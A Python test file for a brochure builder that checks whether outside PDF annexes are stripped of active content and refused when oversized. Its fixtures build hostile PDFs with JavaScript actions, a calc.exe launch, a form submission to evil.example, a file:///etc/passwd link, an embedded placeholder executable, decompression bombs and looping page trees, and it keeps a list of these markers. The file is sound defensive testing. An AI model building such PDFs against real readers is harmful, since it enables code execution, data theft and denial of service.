"""Tender annexes come from outside: what they show is copied, their active content and
attachments are not (each kind named in a warning), and their size is bounded."""

from __future__ import annotations

import io
import shutil
import subprocess
import zlib
from pathlib import Path

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (ArrayObject, DecodedStreamObject, DictionaryObject, FloatObject, IndirectObject,
                           NameObject, NumberObject, StreamObject, TextStringObject)

from brochure import annexes
from brochure.commands.build import Tender
from brochure.errors import ContentError

from conftest import build_site

CASE = "---\ntitle: Client Exemple\nprojects: [collectivites]\ndate: 2024-05-01\n---\nTexte du cas.\n"
ACTIVE = (b"/JavaScript", b"/JS", b"/Launch", b"/EmbeddedFile", b"/FileAttachment", b"/RichMedia", b"/SubmitForm",
          b"/OpenAction", b"/AA", b"/ImportData", b"/GoToR", b"/Filespec", b"/EF", b"/Rendition", b"calc.exe",
          b"app.alert", b"MZ-EVIL-PAYLOAD")


def name(text: str) -> NameObject:
    return NameObject(text)


def d(**entries) -> DictionaryObject:
    return DictionaryObject({NameObject("/" + k): v for k, v in entries.items()})


def stream(writer: PdfWriter, data: bytes, **entries) -> IndirectObject:
    s = DecodedStreamObject()
    s.set_data(data)
    s.update(d(**entries))
    return writer._add_object(s)


def js(code: str = "app.alert('x')") -> DictionaryObject:
    return d(Type=name("/Action"), S=name("/JavaScript"), JS=TextStringObject(code))


def rect(*values: float) -> ArrayObject:
    return ArrayObject(FloatObject(v) for v in values)


def hostile_annex(path: Path) -> Path:
    """One page showing text, with every kind of active content an annex may carry."""
    w = PdfWriter()
    page = w.add_blank_page(595, 842)
    font = w._add_object(d(Type=name("/Font"), Subtype=name("/Type1"), BaseFont=name("/Helvetica")))
    # a form XObject drawn by the page, hiding a script, an action and a way back to the catalog
    form = stream(w, b"BT /F1 14 Tf 72 650 Td (FORM TEXT SHOWN) Tj ET", Type=name("/XObject"),
                  Subtype=name("/Form"), BBox=rect(0, 0, 595, 842), Resources=d(Font=d(F1=font)),
                  JS=TextStringObject("app.alert('form')"), AA=d(O=js()),
                  PieceInfo=d(Evil=d(A=d(S=name("/Launch"), F=TextStringObject("calc.exe")))),
                  Back=w._root_object.indirect_reference)
    page[name("/Resources")] = d(Font=d(F1=font), XObject=d(Fx=form))
    page[name("/Contents")] = stream(w, b"BT /F1 24 Tf 72 700 Td (VISIBLE ANNEX TEXT) Tj ET /Fx Do")
    page[name("/AA")] = d(O=js("app.alert('page open')"))
    embedded = stream(w, b"MZ-EVIL-PAYLOAD", Type=name("/EmbeddedFile"))
    widget_look = stream(w, b"BT /F1 10 Tf 2 4 Td (FIELD VALUE SHOWN) Tj ET", Type=name("/XObject"),
                         Subtype=name("/Form"), BBox=rect(0, 0, 200, 20), Resources=d(Font=d(F1=font)))
    annots = [
        d(Type=name("/Annot"), Subtype=name("/Link"), Rect=rect(72, 500, 200, 520), A=js()),
        d(Type=name("/Annot"), Subtype=name("/Link"), Rect=rect(72, 470, 200, 490),
          A=d(S=name("/Launch"), F=TextStringObject("calc.exe"))),
        d(Type=name("/Annot"), Subtype=name("/Link"), Rect=rect(72, 440, 200, 460),
          A=d(S=name("/SubmitForm"), F=TextStringObject("http://evil.example/collect"))),
        d(Type=name("/Annot"), Subtype=name("/Link"), Rect=rect(72, 410, 200, 430),
          A=d(S=name("/URI"), URI=TextStringObject("https://example.org/verify"))),
        d(Type=name("/Annot"), Subtype=name("/Link"), Rect=rect(72, 380, 200, 400),
          A=d(S=name("/URI"), URI=TextStringObject("file:///etc/passwd"))),
        d(Type=name("/Annot"), Subtype=name("/FileAttachment"), Rect=rect(300, 500, 320, 520),
          FS=d(Type=name("/Filespec"), F=TextStringObject("evil.exe"), EF=d(F=embedded))),
        d(Type=name("/Annot"), Subtype=name("/RichMedia"), Rect=rect(300, 400, 400, 450),
          RichMediaContent=d(Assets=d(Names=ArrayObject()))),
        d(Type=name("/Annot"), Subtype=name("/Widget"), FT=name("/Tx"), T=TextStringObject("field"),
          Rect=rect(72, 300, 272, 320), AP=d(N=widget_look), AA=d(K=js("app.alert('keystroke')"))),
    ]
    page[name("/Annots")] = ArrayObject(w._add_object(a) for a in annots)
    w.add_attachment("evil.exe", b"MZ-EVIL-PAYLOAD")
    names = w._root_object["/Names"].get_object()
    names[name("/JavaScript")] = d(Names=ArrayObject([TextStringObject("doc"), w._add_object(js("app.alert('doc')"))]))
    w._root_object[name("/OpenAction")] = js("app.alert('open')")
    w.write(path)
    return path


def blank_pages(count: int = 3) -> bytes:
    w = PdfWriter()
    for _ in range(count):
        w.add_blank_page(595, 842)
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def all_bytes(data: bytes) -> bytes:
    """The PDF's raw bytes and every object's stream decompressed."""
    reader = PdfReader(io.BytesIO(data))
    chunks = [data]
    numbers = {(num, gen) for gen, table in reader.xref.items() for num in table}
    numbers |= {(num, 0) for num in reader.xref_objStm}
    for number, generation in sorted(numbers):
        try:
            obj = reader.get_object(IndirectObject(number, generation, reader))
        except Exception:
            continue
        chunks.append(repr(obj).encode("utf-8", "replace"))
        if isinstance(obj, StreamObject):
            chunks.append(obj.get_data())
    return b"".join(chunks)


def assert_clean(data: bytes) -> None:
    everything = all_bytes(data)
    for marker in ACTIVE:
        assert marker not in everything, marker


def test_hostile_annex_is_copied_without_its_active_content(tmp_path):
    path = hostile_annex(tmp_path / "evil.pdf")
    checked = annexes.check(path, 200)
    assert checked.pages == 1
    said = "\n".join(checked.warnings)
    for kind in ("JavaScript removed from the document and page 1", "Launch action", "form submission action",
                 "file attachment removed from page 1", "embedded file removed from the document",
                 "multimedia or 3D content removed from page 1", "link to another file removed from page 1"):
        assert kind in said, (kind, said)
    assert len(checked.warnings) == len(set(checked.warnings)) and len(checked.warnings) <= 10  # grouped by kind

    data = annexes.fill(blank_pages(3), [(path, 1, 1)])
    assert_clean(data)
    reader = PdfReader(io.BytesIO(data))
    assert "/OpenAction" not in reader.trailer["/Root"] and "/Names" not in reader.trailer["/Root"]
    text = reader.pages[1].extract_text()
    for shown in ("VISIBLE ANNEX TEXT", "FORM TEXT SHOWN", "FIELD VALUE SHOWN"):  # the widget's look is kept
        assert shown in text, (shown, text)
    assert not reader.pages[0].extract_text() and not reader.pages[2].extract_text()
    # the one web link stays, where its text is (scaled like the page), and it is the only annotation
    annots = [a.get_object() for page in reader.pages for a in page.get("/Annots") or []]
    assert [(a["/Subtype"], a["/A"]["/S"], a["/A"]["/URI"]) for a in annots] == [
        ("/Link", "/URI", "https://example.org/verify")]
    left, bottom, right, top = (float(v) for v in annots[0]["/Rect"])
    assert 60 < left < 80 and 400 < bottom < 420 and right - left > 100


def test_hostile_annex_in_a_bid_is_reported_and_the_bid_is_clean(site, tmp_path):
    root = site({"cas.md": CASE})
    evil = hostile_annex(root / "evil.pdf")
    report = build_site(
        root, "out", one_pagers=False, cache=False, jobs=1,
        tender=Tender(title="Offre", buyer="Acheteur", annexes=((evil, "Certificat"),), folder=root, file="offre.pdf"))
    assert not report.errors, report.errors
    mine = [w for w in report.warnings if w.file == str(evil)]
    assert any("annex: JavaScript removed" in w.message for w in mine), report.warnings
    assert any("file attachment" in w.message for w in mine) and any("Launch" in w.message for w in mine)
    assert all("\n" not in w.message for w in mine)
    data = (root / "out" / "offre.pdf").read_bytes()
    assert_clean(data)
    reader = PdfReader(io.BytesIO(data))
    last = reader.pages[-2].extract_text()  # (then the back cover)
    assert "VISIBLE ANNEX TEXT" in last and "FIELD VALUE SHOWN" in last


def many_pages(path: Path, count: int) -> Path:
    w = PdfWriter()
    for _ in range(count):
        w.add_blank_page(100, 100)
    w.write(path)
    return path


def test_annex_over_the_page_limit_is_left_out_and_the_bid_still_builds(site):
    root = site({"cas.md": CASE}, config_extra="[limits]\nannex_pages = 20\n")
    big = many_pages(root / "big.pdf", 300)
    small = hostile_annex(root / "small.pdf")
    report = build_site(
        root, "out", one_pagers=False, cache=False, jobs=1,
        tender=Tender(title="Offre", buyer="Acheteur", annexes=((big, "Gros"), (small, "Petit")), folder=root,
                      file="offre.pdf"))
    errors = [e for e in report.errors if e.file == str(big)]
    assert len(errors) == 1 and len(report.errors) == 1, report.errors
    assert "has 300 pages, over the limit of 20 (limits.annex_pages in brochure.toml)" in errors[0].message
    reader = PdfReader(root / "out" / "offre.pdf")
    assert "VISIBLE ANNEX TEXT" in reader.pages[-2].extract_text()
    assert len(reader.pages) < 20


def test_page_count_is_bounded_whatever_the_tree_claims(tmp_path):
    # 10,000 pages: refused at the limit, named by the count the file gives
    with pytest.raises(ContentError, match="has 10000 pages, over the limit of 200"):
        annexes.check(many_pages(tmp_path / "many.pdf", 10_000), 200)
    # an absurd /Count on a real page tree of 300 pages: the leaves are counted, not the claim trusted
    w = PdfWriter(clone_from=many_pages(tmp_path / "m.pdf", 300))
    w._root_object["/Pages"].get_object()[name("/Count")] = NumberObject(10**15)
    w.write(tmp_path / "liar.pdf")
    with pytest.raises(ContentError, match="over the limit of 200"):
        annexes.check(tmp_path / "liar.pdf", 200)
    w._root_object["/Pages"].get_object()[name("/Count")] = NumberObject(1)
    w.write(tmp_path / "liar2.pdf")
    with pytest.raises(ContentError, match="more than 200 pages, over the limit of 200"):
        annexes.check(tmp_path / "liar2.pdf", 200)


def test_page_tree_loops_and_shared_nodes_are_refused(tmp_path):
    w = PdfWriter(clone_from=many_pages(tmp_path / "two.pdf", 2))
    pages = w._root_object["/Pages"].get_object()
    pages["/Kids"].append(pages.indirect_reference)  # the tree contains itself
    w.write(tmp_path / "loop.pdf")
    with pytest.raises(ContentError):
        annexes.check(tmp_path / "loop.pdf", 200)
    # a node shared 4 times at each of 20 levels would be 4**20 pages
    w = PdfWriter(clone_from=many_pages(tmp_path / "one.pdf", 1))
    node = w._root_object["/Pages"].get_object()["/Kids"][0]
    for _ in range(20):
        node = w._add_object(d(Type=name("/Pages"), Kids=ArrayObject([node] * 4), Count=NumberObject(0)))
    w._root_object[name("/Pages")] = node
    w.write(tmp_path / "fan.pdf")
    with pytest.raises(ContentError):
        annexes.check(tmp_path / "fan.pdf", 100_000)


def test_bombs_in_one_page_are_refused(tmp_path):
    # drawing instructions that inflate to 64 MiB from a few kB
    w = PdfWriter()
    page = w.add_blank_page(595, 842)
    s = StreamObject()
    s._data = zlib.compress(b" " * (64 * 1024 * 1024), 9)
    s[name("/Filter")] = name("/FlateDecode")
    page[name("/Contents")] = w._add_object(s)
    w.write(tmp_path / "zip.pdf")
    assert (tmp_path / "zip.pdf").stat().st_size < 200_000
    with pytest.raises(ContentError, match="decompresses to more than"):
        annexes.check(tmp_path / "zip.pdf", 200)
    # an image claiming 10^10 pixels
    w = PdfWriter()
    page = w.add_blank_page(595, 842)
    image = stream(w, b"\xff" * 100, Type=name("/XObject"), Subtype=name("/Image"), Width=NumberObject(100_000),
                   Height=NumberObject(100_000), ColorSpace=name("/DeviceGray"), BitsPerComponent=NumberObject(8))
    page[name("/Resources")] = d(XObject=d(Im=image))
    w.write(tmp_path / "image.pdf")
    with pytest.raises(ContentError, match="pixels"):
        annexes.check(tmp_path / "image.pdf", 200)


def test_huge_or_broken_page_boxes(tmp_path):
    w = PdfWriter()
    page = w.add_blank_page(14400, 14400)
    page[name("/Contents")] = stream(w, b"BT /F1 400 Tf 100 7000 Td (GIANT PAGE) Tj ET")
    font = w._add_object(d(Type=name("/Font"), Subtype=name("/Type1"), BaseFont=name("/Helvetica")))
    page[name("/Resources")] = d(Font=d(F1=font))
    w.write(tmp_path / "giant.pdf")
    assert annexes.check(tmp_path / "giant.pdf", 200).pages == 1
    reader = PdfReader(io.BytesIO(annexes.fill(blank_pages(1), [(tmp_path / "giant.pdf", 0, 1)])))
    assert "GIANT PAGE" in reader.pages[0].extract_text()
    assert [round(float(v)) for v in reader.pages[0].mediabox] == [0, 0, 595, 842]  # scaled down, page unchanged
    w = PdfWriter()
    page = w.add_blank_page(100, 100)
    page[name("/MediaBox")] = rect(0, 0, 0, 0)
    w.write(tmp_path / "flat.pdf")
    with pytest.raises(ContentError, match="no usable size"):
        annexes.check(tmp_path / "flat.pdf", 200)


def test_unreadable_annexes_are_one_line_errors(tmp_path):
    (tmp_path / "junk.pdf").write_bytes(b"%PDF-1.7\n" + b"\x00garbage" * 1000)
    (tmp_path / "deep.pdf").write_bytes(b"%PDF-1.4\n1 0 obj\n" + b"[" * 100_000 + b"\nendobj\ntrailer\n<</Root 1 0 R>>\n")
    for name_ in ("junk.pdf", "deep.pdf"):
        with pytest.raises(ContentError) as caught:
            annexes.check(tmp_path / name_, 200)
        assert "\n" not in caught.value.message


# --- drawing an annex's pages on the brochure's blank pages -----------------------------------

needs_pdftoppm = pytest.mark.skipif(shutil.which("pdftoppm") is None, reason="pdftoppm (poppler-utils) draws the pages")


def one_page(path: Path, width: float, height: float, drawing: bytes, **entries) -> Path:
    w = PdfWriter()
    page = w.add_blank_page(width, height)
    page[name("/Contents")] = stream(w, drawing)
    for key, value in entries.items():
        page[name(f"/{key}")] = value
    w.write(path)
    return path


def dark_box(pdf: Path, page: int, tmp_path: Path) -> tuple[tuple[int, int, int, int], tuple[int, int]]:
    """Where a page shows black, in pixels at 20 dpi (left, top, right, bottom), and the page's size."""
    from PIL import Image

    out = tmp_path / f"{pdf.stem}-{page}"
    subprocess.run(["pdftoppm", "-r", "20", "-gray", "-png", "-f", str(page + 1), "-l", str(page + 1), "-singlefile",
                    str(pdf), str(out)], check=True, capture_output=True)
    image = Image.open(f"{out}.png").point(lambda v: 255 if v < 128 else 0)
    return image.getbbox(), image.size


@needs_pdftoppm
def test_a_rotated_annex_page_is_drawn_upright_as_a_viewer_shows_it(tmp_path):
    # a landscape page turned a quarter to stand upright, black in its own lower-left corner
    annex = one_page(tmp_path / "turned.pdf", 842, 595, b"0 g 0 0 200 100 re f", Rotate=NumberObject(90))
    brochure = tmp_path / "brochure.pdf"
    brochure.write_bytes(annexes.fill(blank_pages(2), [(annex, 1, 1)]))
    shown, size = dark_box(annex, 0, tmp_path)
    drawn, brochure_size = dark_box(brochure, 1, tmp_path)
    assert size == brochure_size and all(abs(a - b) <= 1 for a, b in zip(shown, drawn)), (shown, drawn)
    assert dark_box(brochure, 0, tmp_path)[0] is None  # the other blank page stays blank


@needs_pdftoppm
def test_an_annex_page_of_another_size_is_scaled_to_fit_and_centred(tmp_path):
    annex = one_page(tmp_path / "square.pdf", 300, 300, b"0 g 0 0 300 300 re f")
    brochure = tmp_path / "brochure.pdf"
    brochure.write_bytes(annexes.fill(blank_pages(1), [(annex, 0, 1)]))
    (left, top, right, bottom), (width, height) = dark_box(brochure, 0, tmp_path)
    assert left == 0 and width - right <= 1  # as wide as the page
    assert abs(top - (height - bottom)) <= 1 and abs((bottom - top) - width) <= 1  # a square, half-way down


def test_what_the_blank_page_already_draws_stays_beside_the_annex(tmp_path):
    w = PdfWriter()
    page = w.add_blank_page(595, 842)
    font = w._add_object(d(Type=name("/Font"), Subtype=name("/Type1"), BaseFont=name("/Helvetica")))
    theirs = stream(w, b"BT /F1 12 Tf 72 60 Td (THE BROCHURE FOOTER) Tj ET", Type=name("/XObject"),
                    Subtype=name("/Form"), BBox=rect(0, 0, 595, 842), Resources=d(Font=d(F1=font)))
    page[name("/Resources")] = d(Font=d(F1=font), XObject=d(Annex=theirs))  # a name the annex's drawing could take
    page[name("/Contents")] = stream(w, b"BT /F1 12 Tf 72 40 Td (PAGE 7) Tj ET /Annex Do")
    out = io.BytesIO()
    w.write(out)
    annex = hostile_annex(tmp_path / "annex.pdf")
    text = PdfReader(io.BytesIO(annexes.fill(out.getvalue(), [(annex, 0, 1)]))).pages[0].extract_text()
    for shown in ("PAGE 7", "THE BROCHURE FOOTER", "VISIBLE ANNEX TEXT"):
        assert shown in text, (shown, text)


def test_an_annex_changed_between_its_check_and_its_drawing_is_an_error(tmp_path):
    path = many_pages(tmp_path / "annex.pdf", 2)
    count = annexes.check(path, 200).pages
    many_pages(path, 3)  # replaced while the brochure was laid out
    with pytest.raises(ContentError, match="annex changed during the build: build again"):
        annexes.fill(blank_pages(3), [(path, 1, count)])


def test_an_encrypted_annex_is_refused_in_one_line(tmp_path):
    w = PdfWriter(clone_from=many_pages(tmp_path / "plain.pdf", 1))
    w.encrypt("secret")
    w.write(tmp_path / "locked.pdf")
    with pytest.raises(ContentError, match="annex is encrypted: give an unprotected copy"):
        annexes.check(tmp_path / "locked.pdf", 200)
